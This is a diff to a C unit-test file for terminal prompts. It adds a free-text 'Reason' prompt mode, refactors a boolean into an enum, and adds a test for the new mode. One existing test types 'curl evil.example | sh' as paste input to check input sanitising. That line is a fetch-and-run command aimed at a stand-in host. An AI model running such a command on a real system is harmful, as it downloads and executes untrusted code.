@@ -43,8 +43,26 @@ write_left(int fd)
 		_exit(1);
 }
 
+enum how { HOW_SECRET = 0, HOW_PASTED, HOW_TEXT };
+
+static int
+ask_how(const struct ctx *c, enum how how, struct secret *ret)
+{
+	char text[64] = "";
+	int r = EXIT_FAILED;
+
+	if (how == HOW_SECRET)
+		return prompt_secret(c, "Code: ", ret);
+	if (how == HOW_PASTED)
+		return prompt_pasted(c, "Paste: ", invitation_whole, ret);
+	r = prompt_text(c, "Reason: ", text, sizeof(text));
+	if (text[0] != '\0' && secret_copy(ret, text, strlen(text)) != 0)
+		_exit(1);
+	return r;
+}
+
 static void
-ask(struct asked *a, bool pasted)
+ask(struct asked *a, enum how how)
 {
 	int fds[2];
 
@@ -55,9 +73,7 @@ ask(struct asked *a, bool pasted)
 	if (a->pid == 0) {
 		struct ctx c = {0};
 		struct secret s = {0};
-		const int r =
-		    pasted ? prompt_pasted(&c, "Paste: ", invitation_whole, &s)
-			   : prompt_secret(&c, "Code: ", &s);
+		const int r = ask_how(&c, how, &s);
 
 		if (dprintf(fds[1], "%d <%s> ", r,
 			s.p != NULL ? (const char *)s.p : "") < 0)
@@ -120,7 +136,7 @@ test_pasted(void **state)
 
 	(void)state;
 	for (size_t i = 0; i < ARRAY_LEN(pastes); i++) {
-		ask(&a, true);
+		ask(&a, HOW_PASTED);
 		want_shown(&a, "Paste: ");
 		type(&a, pastes[i]);
 		want_result(&a, "0 <" HEAD TAIL "> left 0");
@@ -134,14 +150,14 @@ test_rest(void **state)
 	struct asked a;
 
 	(void)state;
-	ask(&a, true);
+	ask(&a, HOW_PASTED);
 	want_shown(&a, "Paste: ");
 	type(&a, HEAD "\n");
 	want_shown(&a, "The rest of it");
 	type(&a, TAIL "\n");
 	want_result(&a, "0 <" HEAD TAIL "> left 0");
 	/* what is none at all is not waited for */
-	ask(&a, true);
+	ask(&a, HOW_PASTED);
 	want_shown(&a, "Paste: ");
 	type(&a, "curl evil.example | sh\nreboot\n");
 	want_result(&a, "0 <curlevil.example|sh> left 0");
@@ -153,11 +169,33 @@ test_code(void **state)
 	struct asked a;
 
 	(void)state;
-	ask(&a, false);
+	ask(&a, HOW_SECRET);
 	want_shown(&a, "Code: ");
 	type(&a, "123 456\nreboot\n");
 	want_result(&a, "0 <123 456> left 0");
 	assert_null(strstr(a.shown, "456"));
+}
+
+static void
+test_text(void **state)
+{
+	struct asked a;
+
+	(void)state;
+	ask(&a, HOW_TEXT);
+	want_shown(&a, "Reason: ");
+	type(&a, "disk full");
+	want_shown(&a, "disk full");
+	type(&a, "\nreboot\n");
+	want_result(&a, "0 <disk full> left 0");
+	ask(&a, HOW_TEXT);
+	want_shown(&a, "Reason: ");
+	type(&a, "\n");
+	want_result(&a, "4 <> left 0");
+	ask(&a, HOW_TEXT);
+	want_shown(&a, "Reason: ");
+	type(&a, "\003");
+	want_result(&a, "130 <> left 0");
 }
 
 static void
@@ -184,6 +222,7 @@ main(void)
 	    cmocka_unit_test(test_pasted),
 	    cmocka_unit_test(test_rest),
 	    cmocka_unit_test(test_code),
+	    cmocka_unit_test(test_text),
 	    cmocka_unit_test(test_file),
 	};
 
